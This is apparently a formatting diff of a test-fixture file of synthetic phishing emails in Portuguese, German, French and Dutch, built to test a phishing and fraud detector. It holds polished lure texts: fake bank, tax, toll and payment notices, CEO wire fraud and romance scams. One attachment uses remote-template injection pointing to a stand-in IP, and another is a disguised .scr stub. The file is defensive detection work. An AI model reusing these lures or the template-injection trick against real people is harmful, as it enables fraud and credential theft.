+        'Exma. Senhora Manuela Teixeira,\n\nTemos o prazer de informar que o seu endereço de e-mail foi selecionado no sorteio internacional de endereços eletrónicos associado ao Euromilhões, com o prémio de 850.000,00 € (oitocentos e cinquenta mil euros).\n\nPara que a transferência seja efetuada, deverá pagar previamente o imposto do selo e as despesas de processamento, no valor de 1.240,00 €, e enviar-nos uma cópia do cartão de cidadão e o IBAN.\n\nO prémio deve ser reclamado no prazo de 10 dias, caso contrário reverte para o próximo sorteio. Mantenha esta notificação confidencial.\n\nCom os melhores cumprimentos,\nDr. Rui Antunes\nGestor de Prémios',
+      ),
     }),
   },
   // ---------------------------------------------------------------- German
@@ -988,13 +1160,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '67e2d1e8.3a9c71@vr-securego-aktualisierung.icu',
       relay: 'mx.vr-securego-aktualisierung.icu [203.0.113.119]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Sehr geehrte Kundin, sehr geehrter Kunde,',
-        'aufgrund der neuen Sicherheitsrichtlinien der Europäischen Bankenaufsicht muss die App VR SecureGo plus bis zum 28.03.2025 neu registriert werden. Nicht registrierte Geräte werden danach gesperrt und Überweisungen im Onlinebanking sind nicht mehr möglich.',
-        'Die Neuregistrierung dauert nur wenige Minuten:',
-        { button: 'Jetzt neu registrieren', href: 'https://vr-securego-aktualisierung.icu/banking/registrierung' },
-        'Mit freundlichen Grüßen\nIhre Volksbank Raiffeisenbank',
-      ], { lang: 'de' }),
+      body: document(
+        [
+          'Sehr geehrte Kundin, sehr geehrter Kunde,',
+          'aufgrund der neuen Sicherheitsrichtlinien der Europäischen Bankenaufsicht muss die App VR SecureGo plus bis zum 28.03.2025 neu registriert werden. Nicht registrierte Geräte werden danach gesperrt und Überweisungen im Onlinebanking sind nicht mehr möglich.',
+          'Die Neuregistrierung dauert nur wenige Minuten:',
+          { button: 'Jetzt neu registrieren', href: 'https://vr-securego-aktualisierung.icu/banking/registrierung' },
+          'Mit freundlichen Grüßen\nIhre Volksbank Raiffeisenbank',
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1011,13 +1186,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '20250710161245.88c2@elster-zertifikat.top',
       relay: 'server1.elster-zertifikat.top [198.51.100.171]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        'Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
-        'Ihr Zertifikat für Mein ELSTER läuft am 13.07.2025 ab. Nach Ablauf können Sie keine Steuererklärung mehr abgeben und laufende Erstattungen werden angehalten.',
-        'Bitte verlängern Sie Ihr Zertifikat rechtzeitig. Halten Sie dazu Ihre Zertifikatsdatei (.pfx) und Ihr Passwort bereit.',
-        { button: 'Zertifikat verlängern', href: 'https://elster-zertifikat.top/eportal/verlaengerung' },
-        'Ihr ELSTER-Team\nBayerisches Landesamt für Steuern',
-      ], { lang: 'de' }),
+      body: document(
+        [
+          'Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
+          'Ihr Zertifikat für Mein ELSTER läuft am 13.07.2025 ab. Nach Ablauf können Sie keine Steuererklärung mehr abgeben und laufende Erstattungen werden angehalten.',
+          'Bitte verlängern Sie Ihr Zertifikat rechtzeitig. Halten Sie dazu Ihre Zertifikatsdatei (.pfx) und Ihr Passwort bereit.',
+          { button: 'Zertifikat verlängern', href: 'https://elster-zertifikat.top/eportal/verlaengerung' },
+          'Ihr ELSTER-Team\nBayerisches Landesamt für Steuern',
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1037,13 +1215,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       returnPath: '01070199867a4c21-5e8b2d9a-7c3f-4a1e-b6d2-9f0e1c8a3b47-000000@eu-west-1.amazonses.com',
       relay: 'b224-17.smtp-out.eu-west-1.amazonses.com [54.240.4.17]',
       headers: sesHeaders('eu-west-1', '1.eu-west-1.Lm7Qx2Tz9Rk4Vb1Wn8Pc3Hd5Fj6As0Gy=', '2025.09.26-54.240.4.17'),
-      body: document([
-        { heading: 'Ihre Zahlung konnte nicht verarbeitet werden' },
-        'Hallo,',
-        'die Abbuchung für Ihr Deutschlandticket (58,00 €) für Oktober ist fehlgeschlagen. Ohne gültige Zahlungsdaten wird Ihr Ticket zum 01.10.2025 gesperrt und eine Rücklastschriftgebühr von 9,50 € erhoben.',
-        { button: 'Zahlungsdaten aktualisieren', href: 'https://dticket-aboservice.de.com/konto/zahlung' },
-        { small: 'Deutschlandticket Abo-Service · Diese E-Mail wurde automatisch erstellt.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Ihre Zahlung konnte nicht verarbeitet werden' },
+          'Hallo,',
+          'die Abbuchung für Ihr Deutschlandticket (58,00 €) für Oktober ist fehlgeschlagen. Ohne gültige Zahlungsdaten wird Ihr Ticket zum 01.10.2025 gesperrt und eine Rücklastschriftgebühr von 9,50 € erhoben.',
+          { button: 'Zahlungsdaten aktualisieren', href: 'https://dticket-aboservice.de.com/konto/zahlung' },
+          { small: 'Deutschlandticket Abo-Service · Diese E-Mail wurde automatisch erstellt.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1061,13 +1242,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'c7a2e91f-3b4d-4e8a-9c1b-6f0e2d8a1b35@kleinanzeigen-zahlung.xyz',
       relay: 'mail.kleinanzeigen-zahlung.xyz [203.0.113.9]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'Der Käufer hat bezahlt' },
-        'Hallo Jan,',
-        'der Käufer hat für Deinen Artikel „Kinderfahrrad Puky 20 Zoll“ 240,00 € inklusive Versand über „Sicher bezahlen“ bezahlt. Um das Geld zu erhalten, bestätige bitte Deine Karte. Anschließend holt DHL das Paket bei Dir ab.',
-        { button: 'Zahlung empfangen', href: 'https://kleinanzeigen-zahlung.xyz/sicher-bezahlen/empfangen?a=2891174' },
-        { small: 'Kleinanzeigen · Die Zahlung verfällt nach 24 Stunden.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Der Käufer hat bezahlt' },
+          'Hallo Jan,',
+          'der Käufer hat für Deinen Artikel „Kinderfahrrad Puky 20 Zoll“ 240,00 € inklusive Versand über „Sicher bezahlen“ bezahlt. Um das Geld zu erhalten, bestätige bitte Deine Karte. Anschließend holt DHL das Paket bei Dir ab.',
+          { button: 'Zahlung empfangen', href: 'https://kleinanzeigen-zahlung.xyz/sicher-bezahlen/empfangen?a=2891174' },
+          { small: 'Kleinanzeigen · Die Zahlung verfällt nach 24 Stunden.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1085,7 +1269,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'trinity-4e8a2c71-9b3d-4f6e-a1c5-2d0b9e7f4a36-1756713808123@3c-app-mailcom-bs14',
       dkim: ['mail.de:mail-2025'],
       relay: 'shout02.mail.de [62.201.172.57]',
-      body: plain('Frau Vogel,\n\nich benötige heute Ihre Unterstützung in einer streng vertraulichen Angelegenheit. Wir stehen kurz vor der Übernahme eines Wettbewerbers in der Schweiz (Projekt Adler). Die Finanzaufsicht verlangt bis zur offiziellen Bekanntgabe absolute Verschwiegenheit, auch gegenüber Kollegen.\n\nRechtsanwalt Dr. Keller von der Kanzlei Bär & Partner wird Sie in Kürze anrufen und Ihnen die Kontodaten für die Anzahlung von 186.000 € durchgeben. Bitte führen Sie die Überweisung heute noch aus.\n\nIch bin den ganzen Tag in Verhandlungen und nur per E-Mail erreichbar. Bitte antworten Sie nur an diese Adresse.\n\nMit freundlichen Grüßen\nDr. Martin Steiner\nGeschäftsführer'),
+      body: plain(
+        'Frau Vogel,\n\nich benötige heute Ihre Unterstützung in einer streng vertraulichen Angelegenheit. Wir stehen kurz vor der Übernahme eines Wettbewerbers in der Schweiz (Projekt Adler). Die Finanzaufsicht verlangt bis zur offiziellen Bekanntgabe absolute Verschwiegenheit, auch gegenüber Kollegen.\n\nRechtsanwalt Dr. Keller von der Kanzlei Bär & Partner wird Sie in Kürze anrufen und Ihnen die Kontodaten für die Anzahlung von 186.000 € durchgeben. Bitte führen Sie die Überweisung heute noch aus.\n\nIch bin den ganzen Tag in Verhandlungen und nur per E-Mail erreichbar. Bitte antworten Sie nur an diese Adresse.\n\nMit freundlichen Grüßen\nDr. Martin Steiner\nGeschäftsführer',
+      ),
     }),
   },
   {
@@ -1104,8 +1290,14 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['weber-haustechnik.de:default'],
       relay: 'mout.kundenserver.de [212.227.126.187]',
       body: multipart('mixed', [
-        plain('Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2025-3318 über die Wartungsarbeiten vom 20.10.2025.\n\nBitte aktivieren Sie beim Öffnen die Bearbeitung, damit die Rechnung korrekt angezeigt wird.\n\nMit freundlichen Grüßen\nBuchhaltung\nWeber Haustechnik GmbH'),
-        attachment('Rechnung_2025-3318.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', remoteTemplateDocx('http://198.51.100.24/templates/rechnung.dotm')),
+        plain(
+          'Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2025-3318 über die Wartungsarbeiten vom 20.10.2025.\n\nBitte aktivieren Sie beim Öffnen die Bearbeitung, damit die Rechnung korrekt angezeigt wird.\n\nMit freundlichen Grüßen\nBuchhaltung\nWeber Haustechnik GmbH',
+        ),
+        attachment(
+          'Rechnung_2025-3318.docx',
+          'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+          remoteTemplateDocx('http://198.51.100.24/templates/rechnung.dotm'),
+        ),
       ]),
     }),
   },
@@ -1125,14 +1317,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['brandt-voss-recht.eu:mail'],
       relay: 'mail.brandt-voss-recht.eu [192.0.2.15]',
       auth: { dmarc: 'none' },
-      body: plain('Sehr geehrter Herr Schäfer,\n\nim Rahmen einer internationalen Ermittlung gegen betrügerische Online-Trading-Plattformen wurden uns Ihre Daten als geschädigter Anleger übermittelt. Nach unseren Unterlagen haben Sie 2023 und 2024 insgesamt 38.700 € verloren.\n\nUnsere Kanzlei hat bereits über 1.200 Mandanten zu ihrem Geld verholfen. Die Gelder aus Ihrem Fall sind bei einer Partnerbank eingefroren und können innerhalb von 14 Tagen an Sie ausgezahlt werden.\n\nFür die Eröffnung des Verfahrens fällt lediglich eine Bearbeitungsgebühr von 1.450 € an, die per Überweisung oder in USDT beglichen werden kann. Alle weiteren Kosten werden erst nach erfolgreicher Rückzahlung fällig.\n\nBitte antworten Sie innerhalb von 5 Tagen, damit wir Ihren Fall vor Fristablauf einreichen können.\n\nMit freundlichen Grüßen\nRA Dr. Thomas Brandt'),
+      body: plain(
+        'Sehr geehrter Herr Schäfer,\n\nim Rahmen einer internationalen Ermittlung gegen betrügerische Online-Trading-Plattformen wurden uns Ihre Daten als geschädigter Anleger übermittelt. Nach unseren Unterlagen haben Sie 2023 und 2024 insgesamt 38.700 € verloren.\n\nUnsere Kanzlei hat bereits über 1.200 Mandanten zu ihrem Geld verholfen. Die Gelder aus Ihrem Fall sind bei einer Partnerbank eingefroren und können innerhalb von 14 Tagen an Sie ausgezahlt werden.\n\nFür die Eröffnung des Verfahrens fällt lediglich eine Bearbeitungsgebühr von 1.450 € an, die per Überweisung oder in USDT beglichen werden kann. Alle weiteren Kosten werden erst nach erfolgreicher Rückzahlung fällig.\n\nBitte antworten Sie innerhalb von 5 Tagen, damit wir Ihren Fall vor Fristablauf einreichen können.\n\nMit freundlichen Grüßen\nRA Dr. Thomas Brandt',
+      ),
     }),
   },
   // ---------------------------------------------------------------- French
   {
     // Free-flow motorway tolls (A79, A13–A14) made a new pretext: an unpaid "péage sans
     // barrière" with a surcharge, on a throw-away domain.
-    name: 'Péage sans barrière : passage non payé sur l\'A79, 7,40 € à régler avant majoration de 90 €',
+    name: "Péage sans barrière : passage non payé sur l'A79, 7,40 € à régler avant majoration de 90 €",
     lang: 'fr',
     lure: 'authority',
     expect: ['phishing', 'fraud'],
@@ -1144,37 +1338,43 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '6864df54.5a1c@peage-fluxlibre-paiement.icu',
       relay: 'smtp.peage-fluxlibre-paiement.icu [198.51.100.33]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'Passage non réglé' },
-        'Madame, Monsieur,',
-        'Votre véhicule a emprunté le 24/06/2025 un tronçon à péage en flux libre de l\'autoroute A79. Le montant de 7,40 € n\'a pas été réglé dans le délai de 72 heures.',
-        'Sans paiement sous 5 jours, une indemnité forfaitaire de 90 € sera appliquée et le dossier transmis au Trésor public.',
-        { button: 'Régler mon passage', href: 'https://peage-fluxlibre-paiement.icu/paiement?dossier=A79-2406-88172' },
-        { small: 'Service Client Péage Flux Libre. Ceci est un message automatique.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          { heading: 'Passage non réglé' },
+          'Madame, Monsieur,',
+          "Votre véhicule a emprunté le 24/06/2025 un tronçon à péage en flux libre de l'autoroute A79. Le montant de 7,40 € n'a pas été réglé dans le délai de 72 heures.",
+          'Sans paiement sous 5 jours, une indemnité forfaitaire de 90 € sera appliquée et le dossier transmis au Trésor public.',
+          { button: 'Régler mon passage', href: 'https://peage-fluxlibre-paiement.icu/paiement?dossier=A79-2406-88172' },
+          { small: 'Service Client Péage Flux Libre. Ceci est un message automatique.' },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
     // CAF "prime d'activité revalorisée": the RIB and the FranceConnect login on a .top page.
-    name: 'CAF : prime d\'activité revalorisée, mettre à jour le RIB via une fausse page FranceConnect',
+    name: "CAF : prime d'activité revalorisée, mettre à jour le RIB via une fausse page FranceConnect",
     lang: 'fr',
     lure: 'authority',
     expect: ['phishing'],
     raw: mail({
-      from: 'Caisse d\'Allocations Familiales <ne-pas-repondre@caf-allocataires.top>',
+      from: "Caisse d'Allocations Familiales <ne-pas-repondre@caf-allocataires.top>",
       to: 'sophie.lambert84@laposte.net',
-      subject: 'Revalorisation de votre prime d\'activité',
+      subject: "Revalorisation de votre prime d'activité",
       date: 'Mon, 14 Apr 2025 10:02:59 +0200',
       messageId: '20250414080259.c3a9@caf-allocataires.top',
       relay: 'mail.caf-allocataires.top [203.0.113.143]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        'Madame, Monsieur,',
-        'Suite à la revalorisation du 1er avril 2025, un complément de 186,23 € vous est dû au titre de la prime d\'activité.',
-        'Pour recevoir ce versement, veuillez vérifier vos coordonnées bancaires (RIB) dans votre espace Mon Compte en vous connectant avec FranceConnect avant le 18 avril.',
-        { button: 'Accéder à Mon Compte', href: 'https://caf-allocataires.top/moncompte/franceconnect' },
-        'Votre Caf',
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Madame, Monsieur,',
+          "Suite à la revalorisation du 1er avril 2025, un complément de 186,23 € vous est dû au titre de la prime d'activité.",
+          'Pour recevoir ce versement, veuillez vérifier vos coordonnées bancaires (RIB) dans votre espace Mon Compte en vous connectant avec FranceConnect avant le 18 avril.',
+          { button: 'Accéder à Mon Compte', href: 'https://caf-allocataires.top/moncompte/franceconnect' },
+          'Votre Caf',
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1192,13 +1392,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '691ef5c7.b2e4@wero-paiements-fr.sbs',
       relay: 'vps.wero-paiements-fr.sbs [198.51.100.94]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'Paylib devient Wero' },
-        'Bonjour,',
-        'Le service Paylib entre amis sera définitivement fermé le 30 novembre. Pour continuer à envoyer et recevoir de l\'argent, activez votre compte Wero en quelques clics : identifiez votre banque, connectez-vous avec vos identifiants habituels et confirmez votre carte.',
-        { button: 'Activer Wero', href: 'https://wero-paiements-fr.sbs/activation' },
-        { small: 'Wero est un service d\'EPI Company. Sans activation, les paiements en attente seront annulés.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          { heading: 'Paylib devient Wero' },
+          'Bonjour,',
+          "Le service Paylib entre amis sera définitivement fermé le 30 novembre. Pour continuer à envoyer et recevoir de l'argent, activez votre compte Wero en quelques clics : identifiez votre banque, connectez-vous avec vos identifiants habituels et confirmez votre carte.",
+          { button: 'Activer Wero', href: 'https://wero-paiements-fr.sbs/activation' },
+          { small: "Wero est un service d'EPI Company. Sans activation, les paiements en attente seront annulés." },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -1215,18 +1418,24 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAH2p9Lq4Rk7Mz1Xb8Vn3Tc5Hp6Jd0Gs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-wr1-f53.google.com [209.85.221.53]',
-      body: document([
-        'Cher(e) client(e),',
-        'Suite à la mise à jour de nos serveurs, les messageries non vérifiées seront fermées le 12 septembre et tous les messages supprimés.',
-        'Pour conserver votre adresse bernard.lefebvre@orange.fr, confirmez votre identifiant et votre mot de passe :',
-        { button: 'Conserver ma messagerie', href: 'https://orange-messagerie-verification.notion.site/Confirmation-de-votre-compte-1c7e2a914b8d4f6ea1c59d0b2e7f4a36' },
-        'L\'équipe Orange',
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          'Cher(e) client(e),',
+          'Suite à la mise à jour de nos serveurs, les messageries non vérifiées seront fermées le 12 septembre et tous les messages supprimés.',
+          'Pour conserver votre adresse bernard.lefebvre@orange.fr, confirmez votre identifiant et votre mot de passe :',
+          {
+            button: 'Conserver ma messagerie',
+            href: 'https://orange-messagerie-verification.notion.site/Confirmation-de-votre-compte-1c7e2a914b8d4f6ea1c59d0b2e7f4a36',
+          },
+          "L'équipe Orange",
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
     // Callback fraud in French: a fake Amazon order confirmation with a phone number only.
-    name: 'Fausse commande Amazon d\'un iPhone à 1 249 € depuis Gmail, sans lien : « appelez pour annuler »',
+    name: "Fausse commande Amazon d'un iPhone à 1 249 € depuis Gmail, sans lien : « appelez pour annuler »",
     lang: 'fr',
     lure: 'callback',
     expect: ['fraud'],
@@ -1238,12 +1447,14 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAB8w1Lq3Rk6Mz9Xb2Vn7Tc4Hp5Jd0Gs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-wm1-f52.google.com [209.85.128.52]',
-      body: gmailBody('Bonjour,\n\nNous vous confirmons l\'expédition de votre commande :\n\nArticle : Apple iPhone 16 Pro Max 512 Go – Titane naturel\nMontant : 1 249,00 € TTC\nPaiement : carte bancaire enregistrée\nLivraison prévue : lundi 3 novembre\nAdresse : Paris 75011\n\nSi vous n\'êtes pas à l\'origine de cette commande, contactez immédiatement notre service d\'annulation au 01 84 88 47 20 (appel gratuit) afin de bloquer l\'expédition et d\'obtenir le remboursement.\n\nCordialement,\nService Client'),
+      body: gmailBody(
+        "Bonjour,\n\nNous vous confirmons l'expédition de votre commande :\n\nArticle : Apple iPhone 16 Pro Max 512 Go – Titane naturel\nMontant : 1 249,00 € TTC\nPaiement : carte bancaire enregistrée\nLivraison prévue : lundi 3 novembre\nAdresse : Paris 75011\n\nSi vous n'êtes pas à l'origine de cette commande, contactez immédiatement notre service d'annulation au 01 84 88 47 20 (appel gratuit) afin de bloquer l'expédition et d'obtenir le remboursement.\n\nCordialement,\nService Client",
+      ),
     }),
   },
   {
     // A ZIP holding a .scr "scan" from a compromised small business: an executable screen saver.
-    name: 'Bon de commande en ZIP contenant un économiseur d\'écran .scr (exécutable) depuis une PME compromise',
+    name: "Bon de commande en ZIP contenant un économiseur d'écran .scr (exécutable) depuis une PME compromise",
     lang: 'fr',
     lure: 'malware',
     expect: ['malware'],
@@ -1256,27 +1467,37 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['menuiserie-roussel.fr:ovhmo1234567-selector1'],
       relay: 'mo4-p00-ob.smtp.rzone.de [192.0.2.181]',
       body: multipart('mixed', [
-        plain('Bonjour,\n\nVeuillez trouver ci-joint notre bon de commande BC-2025-0612. Merci de nous confirmer les délais et les prix.\n\nCordialement,\nService Achats\nMenuiserie Roussel'),
-        attachment('BC-2025-0612.zip', 'application/zip', zip({ 'BC-2025-0612_scan.pdf.scr': Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]) })),
+        plain(
+          'Bonjour,\n\nVeuillez trouver ci-joint notre bon de commande BC-2025-0612. Merci de nous confirmer les délais et les prix.\n\nCordialement,\nService Achats\nMenuiserie Roussel',
+        ),
+        attachment(
+          'BC-2025-0612.zip',
+          'application/zip',
+          zip({
+            'BC-2025-0612_scan.pdf.scr': Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]),
+          }),
+        ),
       ]),
     }),
   },
   {
     // Romance fraud ("brouteur"): a woman met online is "stuck at customs in Abidjan" and
     // asks for a transfer to free her luggage and come to France.
-    name: 'Arnaque aux sentiments : « bloquée à la douane d\'Abidjan », 1 800 € par Western Union pour venir en France',
+    name: "Arnaque aux sentiments : « bloquée à la douane d'Abidjan », 1 800 € par Western Union pour venir en France",
     lang: 'fr',
     lure: 'romance',
     expect: ['fraud'],
     raw: mail({
       from: 'Clarisse Dubois <clarisse.dubois1987@yahoo.com>',
       to: 'gerard.poulain@sfr.fr',
-      subject: 'Mon cœur, j\'ai besoin de toi',
+      subject: "Mon cœur, j'ai besoin de toi",
       date: 'Sun, 16 Mar 2025 23:12:08 +0000',
       messageId: '1742166728.4471.yahoo@mail.yahoo.com',
       dkim: ['yahoo.com:s2048'],
       relay: 'sonic307-21.consmr.mail.ir2.yahoo.com [77.238.176.149]',
-      body: plain('Mon amour Gérard,\n\nJe suis à l\'aéroport d\'Abidjan et tout va mal. Les douaniers ont bloqué mes bagages avec les papiers de l\'héritage de ma mère et ils demandent 1 800 € de frais de dédouanement, sinon je ne peux pas prendre l\'avion pour te rejoindre à Angers samedi.\n\nJ\'ai honte de te demander ça, mon cœur, tu sais que je t\'aime plus que tout. Je te rembourserai dès que je serai en France, avec l\'argent de l\'héritage.\n\nEnvoie l\'argent par Western Union au nom de mon transitaire, M. Koffi Yao, à Abidjan, et envoie-moi le code MTCN. S\'il te plaît, fais vite, l\'avion part demain soir. Ne dis rien à ta sœur, elle ne comprendrait pas notre amour.\n\nJe t\'embrasse fort,\nTa Clarisse'),
+      body: plain(
+        "Mon amour Gérard,\n\nJe suis à l'aéroport d'Abidjan et tout va mal. Les douaniers ont bloqué mes bagages avec les papiers de l'héritage de ma mère et ils demandent 1 800 € de frais de dédouanement, sinon je ne peux pas prendre l'avion pour te rejoindre à Angers samedi.\n\nJ'ai honte de te demander ça, mon cœur, tu sais que je t'aime plus que tout. Je te rembourserai dès que je serai en France, avec l'argent de l'héritage.\n\nEnvoie l'argent par Western Union au nom de mon transitaire, M. Koffi Yao, à Abidjan, et envoie-moi le code MTCN. S'il te plaît, fais vite, l'avion part demain soir. Ne dis rien à ta sœur, elle ne comprendrait pas notre amour.\n\nJe t'embrasse fort,\nTa Clarisse",
+      ),
     }),
   },
   // ---------------------------------------------------------------- Dutch
@@ -1295,13 +1516,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '6849353c.1f7a@mijnbelastingdienst-teruggave.cfd',
       relay: 'mail.mijnbelastingdienst-teruggave.cfd [203.0.113.224]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        'Geachte heer/mevrouw,',
-        'Na de definitieve berekening van uw aangifte inkomstenbelasting 2024 heeft u recht op een teruggave van € 327,00.',
-        'Om de teruggave te ontvangen, logt u in met DigiD en controleert u uw rekeningnummer. Doet u dit niet binnen 14 dagen, dan vervalt uw recht op uitbetaling.',
-        { button: 'Teruggave aanvragen', href: 'https://mijnbelastingdienst-teruggave.cfd/digid/inloggen' },
-        'Met vriendelijke groet,\nBelastingdienst',
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Geachte heer/mevrouw,',
+          'Na de definitieve berekening van uw aangifte inkomstenbelasting 2024 heeft u recht op een teruggave van € 327,00.',
+          'Om de teruggave te ontvangen, logt u in met DigiD en controleert u uw rekeningnummer. Doet u dit niet binnen 14 dagen, dan vervalt uw recht op uitbetaling.',
+          { button: 'Teruggave aanvragen', href: 'https://mijnbelastingdienst-teruggave.cfd/digid/inloggen' },
+          'Met vriendelijke groet,\nBelastingdienst',
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1321,14 +1545,17 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       returnPath: 'bounces-8813014-r.bakker1968=kpnmail.nl@sendibm2.com',
       relay: 'm201.sendibm2.com [77.32.148.201]',
       headers: brevoHeaders('8813014', 'q2Lm9Rz4Wt1Xb8Vc3NpK7y'),
-      body: document([
-        { heading: 'Controle klantgegevens' },
-        'Geachte klant,',
-        'Op grond van de Wet ter voorkoming van witwassen en financieren van terrorisme (Wwft) zijn wij verplicht uw gegevens periodiek te controleren. Wij hebben uw gegevens nog niet ontvangen.',
-        'Rond de controle vóór 7 maart af. Daarna worden uw betaalrekening en Mobiel Bankieren tijdelijk geblokkeerd.',
-        { button: 'Controle starten', href: 'https://8813014.r.af.d.sendibt2.com/tr/cl/k2Lm9Rz4Wt1Xb8Vc3NpK7yQd' },
-        { small: 'Kapsalon Mirella · Dorpsstraat 18, Zeist. Afmelden.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Controle klantgegevens' },
+          'Geachte klant,',
+          'Op grond van de Wet ter voorkoming van witwassen en financieren van terrorisme (Wwft) zijn wij verplicht uw gegevens periodiek te controleren. Wij hebben uw gegevens nog niet ontvangen.',
+          'Rond de controle vóór 7 maart af. Daarna worden uw betaalrekening en Mobiel Bankieren tijdelijk geblokkeerd.',
+          { button: 'Controle starten', href: 'https://8813014.r.af.d.sendibt2.com/tr/cl/k2Lm9Rz4Wt1Xb8Vc3NpK7yQd' },
+          { small: 'Kapsalon Mirella · Dorpsstraat 18, Zeist. Afmelden.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1346,13 +1573,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'f2c9a1e7-3b4d-4e8a-9c1b-6f0e2d8a1b77@marktplaats-gelijkoversteken.top',
       relay: 'mx.marktplaats-gelijkoversteken.top [198.51.100.6]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'Betaling ontvangen' },
-        'Hoi Sanne,',
-        'De koper heeft € 65,00 betaald voor je advertentie "Kinderwagen Joolz Day+" via Gelijk Oversteken. Het bedrag staat klaar. Kies je bank en log in om het geld op je rekening te ontvangen.',
-        { button: 'Geld ontvangen', href: 'https://marktplaats-gelijkoversteken.top/ontvangen?adv=m2188473920' },
-        { small: 'Marktplaats B.V. · Het bedrag blijft 24 uur gereserveerd.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Betaling ontvangen' },
+          'Hoi Sanne,',
+          'De koper heeft € 65,00 betaald voor je advertentie "Kinderwagen Joolz Day+" via Gelijk Oversteken. Het bedrag staat klaar. Kies je bank en log in om het geld op je rekening te ontvangen.',
+          { button: 'Geld ontvangen', href: 'https://marktplaats-gelijkoversteken.top/ontvangen?adv=m2188473920' },
+          { small: 'Marktplaats B.V. · Het bedrag blijft 24 uur gereserveerd.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1369,13 +1599,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'AS8P189MB1720C4E1A9F3B5D72E8C0A6F2B4D1@AS8P189MB1720.EURP189.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'mail-am6eur05olkn2041.outbound.protection.outlook.com [40.92.91.41]',
-      body: document([
-        'Beste verzekerde,',
-        'Door een wijziging in uw eigen risico over 2024 heeft u te veel premie betaald. U ontvangt € 142,80 terug.',
-        'Bevestig uw rekening met een iDEAL-betaling van € 0,01, dan storten wij het bedrag binnen 3 werkdagen:',
-        { button: 'Teruggave ontvangen', href: 'https://zk-premieteruggave.xyz/ideal' },
-        'Met vriendelijke groet,\nZilveren Kruis',
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Beste verzekerde,',
+          'Door een wijziging in uw eigen risico over 2024 heeft u te veel premie betaald. U ontvangt € 142,80 terug.',
+          'Bevestig uw rekening met een iDEAL-betaling van € 0,01, dan storten wij het bedrag binnen 3 werkdagen:',
+          { button: 'Teruggave ontvangen', href: 'https://zk-premieteruggave.xyz/ideal' },
+          'Met vriendelijke groet,\nZilveren Kruis',
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -1394,13 +1627,19 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['installatiebedrijf-smit.nl:selector1'],
       relay: 'mail-he1eur04on2112.outbound.protection.outlook.com [40.107.7.112]',
       body: multipart('mixed', [
